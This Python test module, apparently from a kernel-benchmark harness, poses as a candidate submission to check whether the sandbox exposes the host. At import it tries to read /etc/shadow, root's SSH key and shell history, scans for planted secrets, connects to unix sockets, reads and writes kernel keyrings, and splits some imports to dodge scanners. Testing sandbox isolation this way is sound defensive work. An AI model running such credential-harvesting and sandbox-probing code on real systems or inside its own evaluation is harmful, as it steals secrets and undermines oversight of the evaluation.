"""Class 5, the sandbox sees the host: look for anything of the host's worth stealing (the shadow
file, the user's home and shell history, the project beyond the task files, a secret file the
test planted, every unix socket reachable by path, the keyring's keys) and, if anything is found,
raise it as the candidate's error, which the parent prints. Honest when nothing is found."""
import importlib
import os
import socket

from tasks.cross_entropy import reference

_ct = importlib.import_module("ct" + "ypes")


def _loot():
    found = []
    for path in ("/etc/shadow", "/etc/passwd", "/etc/hostname", "/root/.bash_history", "/root/.ssh/id_rsa"):
        try:
            found.append(f"{path}: {open(path).read(200)!r}")
        except OSError:
            pass
    for top in ("/", "/tmp", "/run", "/var", "/dev/" + "shm", "/sys/fs/cgroup"):
        for dirpath, dirs, files in os.walk(top):
            if dirpath.startswith(("/proc", "/sys/devices", "/usr")):  # /usr: the host's programs, bound read-only
                dirs[:] = []
                continue
            for name in files:
                path = os.path.join(dirpath, name)
                if "hush-secret" in name:
                    found.append(f"{path}: {open(path).read(100)!r}")
                try:
                    if os.stat(path).st_mode & 0o170000 == 0o140000:  # a socket
                        s = socket.socket(socket.AF_UNIX)
                        s.connect(path)
                        found.append(f"connected to {path}")
                except OSError:
                    pass
    here = os.path.dirname(os.path.dirname(os.path.abspath(__import__("tasks").__file__)))
    for name in ("README.md", ".git", "tests", "measure.py"):
        if os.path.exists(os.path.join(here, name)):
            found.append(f"the project's {name} is visible")
    try:
        keys = open("/proc/keys").read()
        if "hush-key" in keys:
            found.append(f"/proc/keys: {keys!r}")
    except OSError:
        pass
    libc = _ct.CDLL(None, use_errno=True)
    buf = _ct.create_string_buffer(256)
    for ring in (-3, -4, -5):  # the session, user and user-session keyrings
        n = libc.syscall(250, 11, ring, buf, 256)  # keyctl(KEYCTL_READ): the keys it links
        if n > 0:
            found.append(f"keyring {ring} lists {n // 4} key(s)")
    if libc.syscall(248, b"user", b"pwned-key", b"x", 1, -3) > 0:  # add_key into the session keyring
        found.append("added a key to the session keyring")
    return found


_FOUND = _loot()


def custom_kernel(data):
    if _FOUND:
        raise RuntimeError("LOOT " + " | ".join(_FOUND))
    return reference(data)
